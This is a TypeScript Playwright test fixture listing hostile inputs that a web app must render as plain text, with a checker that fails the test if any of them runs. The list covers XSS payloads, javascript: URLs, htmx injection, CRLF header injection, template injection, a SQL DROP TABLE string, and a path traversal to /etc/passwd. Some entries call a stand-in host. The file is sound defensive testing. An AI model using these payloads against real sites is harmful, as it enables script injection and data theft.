// Text that tenants, receivers and callers may send, and that must stay text on every page.
//
// Each one, where it is taken for what it looks like, sets `window.__pwned`, opens a dialog or asks `pwned.invalid` for something.
// `hostile.spec.ts` puts each into a page that takes it so, to see that `nothingRan` would notice.

import { expect, type Page } from "@playwright/test";

import { notes } from "./watch.ts";

/** How a page would have to get it wrong. `never`: nothing runs, but it may spoil a page, a header or a line of a log. */
export type Taken =
  | "markup"
  | "attribute"
  | "attribute in single quotes"
  | "attribute without quotes"
  | "link"
  | "style"
  | "script"
  | "hypermedia"
  | "never";

export interface Hostile {
  name: string;
  text: string;
  taken: Taken;
}

const HOST = "pwned.invalid";
const PATH = "/pwned";

export const HOSTILE: readonly Hostile[] = [
  { name: "a script", taken: "markup", text: "<script>window.__pwned='script'</script>" },
  { name: "a script in capitals, unclosed", taken: "markup", text: "<SCRIPT>window.__pwned='capitals'//</SCRIPT " },
  { name: "a script of another host", taken: "markup", text: `<script src=https://${HOST}/x.js></script>` },
  { name: "an image's handler", taken: "markup", text: "<img src=x onerror=\"window.__pwned='img'\">" },
  { name: "an image's handler with slashes", taken: "markup", text: "<img/src='x'/onerror=window.__pwned='slashes'>" },
  { name: "an alert", taken: "markup", text: "<img src=x onerror=alert('pwned')>" },
  { name: "an SVG's onload", taken: "markup", text: "<svg onload=\"window.__pwned='svg'\"></svg>" },
  { name: "an animation in an SVG", taken: "markup", text: "<svg><animate onbegin=window.__pwned='animate' attributeName=x dur=1s>" },
  { name: "an opened detail", taken: "markup", text: "<details open ontoggle=window.__pwned='details'>x</details>" },
  { name: "a focused field", taken: "markup", text: "<input autofocus onfocus=window.__pwned='focus'>" },
  { name: "a frame with a document", taken: "markup", text: "<iframe srcdoc=\"<script>parent.__pwned='srcdoc'</script>\"></iframe>" },
  { name: "a frame of a javascript: URL", taken: "markup", text: "<iframe src=\"javascript:parent.__pwned='frame'\"></iframe>" },
  { name: "a refresh to elsewhere", taken: "markup", text: `<meta http-equiv=refresh content="0;url=https://${HOST}/">` },
  { name: "a base for every link", taken: "markup", text: `<base href=https://${HOST}/><img src=relative>` },
  { name: "a style sheet of another host", taken: "markup", text: `<link rel=stylesheet href=https://${HOST}/x.css>` },
  { name: "an image of another host", taken: "markup", text: `<img src="https://${HOST}/seen.gif">` },
  { name: "an end of title and text area", taken: "markup", text: "</title></textarea></style></noscript><img src=x onerror=window.__pwned='ends'>" },
  { name: "an end of a comment", taken: "markup", text: "--><img src=x onerror=window.__pwned='comment'><!--" },
  { name: "an end of CDATA", taken: "markup", text: "]]><svg onload=window.__pwned='cdata'>" },
  { name: "a broken tag in a tag", taken: "markup", text: "<scr<script>ipt>window.__pwned='nested'</script><img src=x onerror=window.__pwned='nested'>" },
  { name: "MathML that confuses sanitisers", taken: "never", text: "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=window.__pwned='math'>\">" },
  { name: "an end of an attribute", taken: "attribute", text: "\"><img src=x onerror=\"window.__pwned='quote'\">" },
  { name: "a handler beside an attribute", taken: "attribute", text: "\" autofocus onfocus=\"window.__pwned='beside'\" x=\"" },
  { name: "an end of an attribute in single quotes", taken: "attribute in single quotes", text: "'><svg onload='window.__pwned=\"single\"'>" },
  { name: "a handler after a blank", taken: "attribute without quotes", text: "x autofocus onfocus=window.__pwned='blank'" },
  { name: "a javascript: URL", taken: "link", text: "javascript:window.__pwned='url'" },
  { name: "a javascript: URL in mixed case with blanks", taken: "link", text: " \tJaVaScRiPt:window.__pwned='case'" },
  { name: "a javascript: URL behind a control character", taken: "link", text: "\u0001javascript:window.__pwned='control'" },
  { name: "a javascript: URL with a line in it", taken: "link", text: "java\nscript:window.__pwned='line'" },
  { name: "a javascript: URL that looks like another", taken: "link", text: "javascript://example.com/%0awindow.__pwned='comment'" },
  { name: "a URL without a scheme", taken: "link", text: `//${HOST}/` },
  { name: "a URL with backslashes", taken: "link", text: `/\\${HOST}/` },
  { name: "a data: URL", taken: "never", text: "data:text/html,<script>opener.__pwned='data'</script>" },
  { name: "a vbscript: URL", taken: "never", text: "vbscript:msgbox(1)" },
  { name: "a background in a style", taken: "style", text: `}*{background:url(https://${HOST}/css)}x{` },
  { name: "an import in a style", taken: "markup", text: `<style>@import 'https://${HOST}/import.css';</style>` },
  { name: "an end of a style", taken: "style", text: "</style><img src=x onerror=window.__pwned='style'>" },
  { name: "an end of a string in a script", taken: "script", text: "\";window.__pwned='string';//" },
  { name: "an end of a script", taken: "script", text: "</script><script>window.__pwned='end'</script>" },
  { name: "a template literal", taken: "never", text: "${window.__pwned='literal'}" },
  { name: "a template", taken: "never", text: "{{constructor.constructor(\"window.__pwned='template'\")()}}" },
  { name: "a template of another kind", taken: "never", text: "<%= window.__pwned='erb' %> #{7*7} *{7*7} ${{7*7}} {%debug%}" },
  { name: "a request of htmx", taken: "hypermedia", text: `<b hx-get="${PATH}/get" hx-trigger="load">x</b>` },
  { name: "a request of htmx by data-", taken: "hypermedia", text: `<b data-hx-post="${PATH}/post" data-hx-trigger="load">x</b>` },
  { name: "a handler of htmx", taken: "hypermedia", text: "<b hx-on::load=\"window.__pwned='hx-on'\" hx-on:click=\"window.__pwned='click'\">x</b>" },
  { name: "an evaluated value of htmx", taken: "hypermedia", text: `<b hx-get="${PATH}/vals" hx-trigger="load" hx-vals="js:{x: (window.__pwned='vals')}">x</b>` },
  { name: "a swap beyond its place", taken: "hypermedia", text: `<div hx-swap-oob="beforeend:body"><img src=x onerror=window.__pwned='oob'></div>` },
  { name: "a stream of htmx", taken: "hypermedia", text: `<div hx-ext="sse" sse-connect="${PATH}/sse" sse-swap="message">x</div>` },
  { name: "an event of a stream", taken: "never", text: "x\n\nevent: message\ndata: <img src=x onerror=window.__pwned='sse'>\n\n" },
  { name: "a header on a new line", taken: "never", text: `x\r\nSet-Cookie: pwned=1\r\nLocation: https://${HOST}/\r\n\r\n<script>window.__pwned='crlf'</script>` },
  { name: "entities", taken: "never", text: "&lt;script&gt;window.__pwned='entity'&lt;/script&gt; &#60;img src=x onerror=window.__pwned=1&#62; &amp;amp;" },
  { name: "markup in another writing of UTF-8", taken: "never", text: "\uff1cscript\uff1ewindow.__pwned='wide'\uff1c/script\uff1e +ADw-script+AD4-" },
  { name: "text that turns around", taken: "never", text: "invoice\u202egnp.exe\u202c \u2067x\u2069 \u200f\u200e" },
  { name: "text that is not there", taken: "never", text: "a\u200bb\u200cc\u200dd\ufeffe\u00adf\u2060g" },
  { name: "control characters", taken: "never", text: "a\u0001b\u0007c\u0008d\u001b[31me\u001b]0;pwned\u0007f\u007f\u0085\u2028\u2029" },
  { name: "NUL", taken: "never", text: "a\u0000<\u0000script>window.__pwned='nul'</script>" },
  { name: "half a pair", taken: "never", text: "a\ud83db\ude97c" },
  { name: "emoji", taken: "never", text: "🚗👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿👍🏽 🇩🇪" },
  { name: "marks without an end", taken: "never", text: `Z${"\u0351\u0322\u035b".repeat(60)}` },
  { name: "a word without an end", taken: "never", text: "w".repeat(5000) },
  { name: "lines without an end", taken: "never", text: "line\n".repeat(500) },
  { name: "a formula for a spreadsheet", taken: "never", text: `=HYPERLINK("https://${HOST}/","x")` },
  { name: "a path upwards", taken: "never", text: "../../../../etc/passwd%00.png" },
  { name: "a statement of SQL", taken: "never", text: "'; DROP TABLE webhooks; --" },
  { name: "names that JavaScript has already", taken: "never", text: "__proto__ constructor toString" },
];

/** What fits where length or characters are restricted: one line of printable text. */
export function hostileNames(bytesMax: number): readonly Hostile[] {
  return HOSTILE.filter(({ text }) => Buffer.byteLength(text) <= bytesMax && !/[\u0000-\u001f\u007f-\u009f\ud800-\udfff]/u.test(text));
}

/** All that JSON can carry, without the long ones: for data of events, where each is a value. */
export const HOSTILE_DATA: Record<string, string> = Object.fromEntries(
  HOSTILE.filter(({ text }) => text.length < 1000 && text.isWellFormed()).map(({ name, text }) => [name, text]),
);

/** No script of a hostile text ran, no dialog opened, nothing was asked of where it points, and nobody was led away. */
export async function nothingRan(page: Page): Promise<void> {
  // What would run on load or on focus has had its turn after a task and two frames.
  await page.evaluate(() => new Promise<void>((done) => setTimeout(() => requestAnimationFrame(() => requestAnimationFrame(() => done())))));
  const ran = notes(page.context(), "pwned", "dialog").map(({ kind, text }) => `${kind}: ${text}`);
  const asked = notes(page.context(), "request").filter(({ text }) => led(text)).map(({ text }) => `request: ${text}`);
  const now = led(page.url()) ? [`the page is ${page.url()}`] : [];
  const found = [...ran, ...asked, ...now];
  expect(found, `a hostile text ran\n  ${found.join("\n  ")}\n`).toEqual([]);
}

/** A query may well hold a hostile text: somebody searched for it. */
function led(address: string): boolean {
  if (!URL.canParse(address)) return false;
  const { hostname, pathname } = new URL(address);
  return hostname === HOST || pathname.startsWith(`${PATH}/`);
}
